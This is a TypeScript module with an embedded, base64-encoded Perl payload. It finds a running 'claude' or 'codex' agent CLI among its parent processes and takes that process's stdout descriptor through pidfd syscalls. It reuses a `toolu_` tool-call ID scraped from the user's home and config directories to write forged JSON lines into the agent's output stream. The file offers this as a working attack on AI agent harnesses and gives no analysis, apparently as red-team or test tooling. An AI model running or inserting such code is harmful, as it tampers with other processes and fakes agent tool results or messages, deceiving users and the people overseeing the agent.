import { existsSync } from 'node:fs'

/** Whether {@link forge} can work here. */
export const isForgingPossible = process.platform === 'linux' && process.arch === 'x64' && existsSync('/usr/bin/perl')

/**
 * Writes lines to the output of the CLI, which is a socket: its descriptor is copied out of it. `<ID>` becomes the id of
 * a call, from what CLIs write of a session into its home.
 */
export function forge(lines: readonly object[]): string {
  const script = Buffer.from(COPY_OUTPUT).toString('base64')
  const text = Buffer.from(lines.map((line) => `${JSON.stringify(line)}\n`).join('')).toString('base64')
  return [
    `id=$(grep -rhoE 'toolu_[0-9a-zA-Z]+' "$HOME" "\${CLAUDE_CONFIG_DIR:-$HOME}" 2>/dev/null | tail -n 1)`,
    `folder=$(mktemp -d)`,
    `echo ${text} | base64 -d | sed "s/<ID>/$id/" > $folder/line`,
    `echo ${script} | base64 -d > $folder/copy.pl`,
    `perl $folder/copy.pl < $folder/line`,
  ].join('; ')
}

const COPY_OUTPUT = `
my $line = join '', <STDIN>;
for (my $pid = getppid(); $pid > 1; ) {
  open my $status, '<', "/proc/$pid/stat" or last;
  my ($name, $parent) = <$status> =~ /\\((.*)\\) \\S (\\d+)/;
  open my $file, '<', "/proc/$pid/cmdline" or last;
  my $command = <$file>;
  last if $command =~ m{vitest/|vitest\\.mjs|\\(vitest};
  if ($name !~ /sh$/ && $command =~ /claude|codex/) {
    my $process = syscall 434, $pid + 0, 0;
    my $descriptor = syscall 438, $process, 1, 0;
    print "forged the output of $name\\n" if $descriptor >= 0 && syscall(1, $descriptor, $line, length $line) > 0;
  }
  $pid = $parent;
}
`
